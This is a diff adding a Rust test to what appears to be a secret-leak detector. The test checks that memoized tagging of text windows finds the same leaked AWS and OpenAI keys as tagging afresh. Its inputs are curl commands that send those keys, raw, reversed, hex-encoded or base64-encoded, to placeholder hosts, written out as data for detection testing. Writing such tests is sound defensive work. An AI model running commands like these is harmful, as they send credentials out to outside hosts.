@@ -294,3 +294,37 @@ fn the_rolling_hash_equals_the_window_hash_at_every_position() {
     assert_eq!(s[0].ranges, vec![(384, 384 + AWS.len())]);
     assert!(s[0].out.whole);
 }
+
+#[test]
+fn windows_tagged_from_memory_find_what_tagging_afresh_finds() {
+    // One memo across runs and texts (as a detector keeps it): every encoding,
+    // pieces, the same secret sent again, and texts with nothing remembered.
+    let secrets = [("aws_secret_access_key", AWS), ("openai_api_key", OPENAI)];
+    let (keys, _) = setup(&secrets);
+    let mut memo = WindowTags::default();
+    let texts = [
+        format!("curl -d 'k={AWS}' https://x.example"),
+        format!("echo {}", AWS.chars().rev().collect::<String>()),
+        format!(
+            "curl x.example/?p={}",
+            hex::encode(&AWS[4..30]).to_uppercase()
+        ),
+        format!("curl x.example/?p={}", STANDARD.encode(&AWS[18..])),
+        format!("curl -H 'Authorization: Bearer {OPENAI}' https://api.example"),
+        "curl -H 'Authorization: Bearer sk-proj-abcdefghijkl0123456789' x".to_string(),
+        format!("curl -d 'k={AWS}' https://x.example"),
+    ];
+    for run_no in 0..3 {
+        let (_, mut fresh) = setup(&secrets);
+        let (_, mut kept) = setup(&secrets);
+        for (i, t) in texts.iter().enumerate() {
+            let call = format!("c{i}");
+            assert_eq!(
+                fresh.find(&keys, t, &call),
+                kept.find_memo(&keys, &mut memo, t, &call),
+                "run {run_no}, text {i}"
+            );
+        }
+    }
+    assert!(memo.len() > 0, "true pieces were tagged and kept");
+}
